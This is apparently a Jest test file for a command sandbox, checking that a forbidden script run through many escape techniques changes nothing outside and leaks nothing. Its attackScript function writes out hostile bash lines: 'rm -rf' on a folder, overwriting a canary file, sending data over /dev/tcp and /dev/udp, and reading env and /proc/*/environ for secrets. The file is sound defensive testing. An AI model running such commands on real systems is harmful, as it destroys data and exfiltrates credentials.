import {
  chmodSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { createSocket, type Socket } from 'node:dgram';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { join } from 'node:path';

import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';

import { allEscapes } from '../../unit/activities/commands/escapes/all-escapes.ts';
import { attack, attempts } from './escape-attempts.ts';
import { pollFor } from '../../support/poll.ts';
import { startSandbox, type SandboxFixture } from './sandbox-fixture.ts';

const secret = 'canary-of-the-worker-environment';
let fixture: SandboxFixture;
let outside: string;
let tcp: Server;
let udp: Socket;
let received = '';

beforeAll(async () => {
  fixture = await startSandbox({ environment: { ...process.env, HOLDFAST_TEST_CANARY: secret } });
  // Everybody on this machine may change it: only the sandbox keeps the attack away.
  outside = join(fixture.folder, 'outside');
  mkdirSync(outside);
  chmodSync(outside, 0o777);
  writeFileSync(join(outside, 'canary'), 'untouched\n');
  chmodSync(join(outside, 'canary'), 0o666);
  tcp = createServer((socket) => {
    received += 'connection ';
    socket.on('data', (data) => (received += data.toString()));
    socket.on('error', () => undefined);
  });
  await new Promise<void>((resolve) => tcp.listen(0, '0.0.0.0', resolve));
  udp = createSocket('udp4', (data) => (received += data.toString()));
  await new Promise<void>((resolve) => udp.bind(portOf(tcp), '0.0.0.0', resolve));
  await fixture.write({
    f: 'one line\n',
    big: 'many lines\n'.repeat(200_000),
    'canary-path': join(outside, 'canary'),
    'runs-attack': `${attack}\n`,
    attack: attackScript(portOf(tcp)),
  });
  chmodSync(join(fixture.workspace, 'attack'), 0o755);
});

afterAll(() => {
  tcp.close();
  udp.close();
  fixture.close();
});

function portOf(server: Server): number {
  // oxlint-disable-next-line typescript/no-unsafe-type-assertion
  return (server.address() as AddressInfo).port;
}

/** Tries to change the host's files, to send bytes to it, and to read what the worker knows; leaves a mark inside. */
function attackScript(port: number): string {
  return [
    '#!/bin/bash',
    'unset BASH_ENV',
    ': > /workspace/ran',
    `echo stolen > '${outside}/canary'`,
    `rm -rf '${outside}'/*`,
    `echo stolen > '${outside}/made'`,
    `for at in 127.0.0.1 0.0.0.0; do echo leak > /dev/tcp/$at/${port}; echo leak > /dev/udp/$at/${port}; done`,
    '{ env; cat /proc/[0-9]*/environ; } >> /workspace/seen',
    'exit 0',
  ].join('\n');
}

interface Attempted {
  readonly technique: string;
  readonly ran: boolean;
  readonly changed: boolean;
  readonly leaked: boolean;
}

async function attempt(technique: string, text: string): Promise<Attempted> {
  const mark = join(fixture.workspace, 'ran');
  rmSync(mark, { force: true });
  received = '';
  const { output } = await fixture.sandbox.run(
    fixture.command({ argv: ['bash', '-c', text], limits: { wallMs: 20_000 } }),
  );
  const seen = join(fixture.workspace, 'seen');
  const words = output.combined + (existsSync(seen) ? readFileSync(seen, 'utf8') : '');
  rmSync(seen, { force: true });
  return {
    technique,
    ran: existsSync(mark),
    changed:
      readFileSync(join(outside, 'canary'), 'utf8') !== 'untouched\n' ||
      readdirSync(outside).length !== 1,
    leaked: received !== '' || words.includes(secret),
  };
}

describe('a forbidden command that policy would have let through', () => {
  it('can be tried by every technique of the table', () => {
    const techniques = new Set(allEscapes.map(({ technique }) => technique));

    expect(Object.keys(attempts).toSorted()).toEqual([...techniques].toSorted());
  });

  it('changes nothing outside and sends no byte, by whatever technique it runs', async () => {
    const made = statSync(join(outside, 'canary')).ino;
    const attempted: Attempted[] = [];
    for (const [technique, text] of Object.entries(attempts)) {
      attempted.push(await attempt(technique, text(portOf(tcp))));
    }

    const idle = attempted.filter(({ ran }) => !ran).map(({ technique }) => technique);
    process.stdout.write(
      `${attempted.length} techniques tried, ${attempted.length - idle.length} ran the attack inside; refused or not on this machine: ${idle.join(', ') || 'none'}; changed outside: ${count(attempted, 'changed')}; leaked: ${count(attempted, 'leaked')}\n`,
    );
    expect(attempted.filter(({ changed, leaked }) => changed || leaked)).toEqual([]);
    expect(statSync(join(outside, 'canary')).ino).toBe(made);
    expect(attempted.length - idle.length).toBeGreaterThanOrEqual(55);
  }, 600_000);

  it('would be seen if the sandbox let it out', async () => {
    // The same attack outside of the sandbox: every alarm of this test rings.
    const { execa } = await import('execa');
    received = '';
    const script = attackScript(portOf(tcp)).replaceAll('/workspace', fixture.workspace);

    await execa('bash', ['-c', script], { env: { HOLDFAST_TEST_CANARY: secret } });

    await pollFor('it is received', () => received.includes('leak') || undefined);
    expect(readFileSync(join(outside, 'made'), 'utf8')).toBe('stolen\n');
    expect(existsSync(join(outside, 'canary'))).toBe(false);
    expect(readFileSync(join(fixture.workspace, 'seen'), 'utf8')).toContain(secret);
  });
});

function count(attempted: readonly Attempted[], field: 'changed' | 'leaked'): number {
  return attempted.filter((one) => one[field]).length;
}
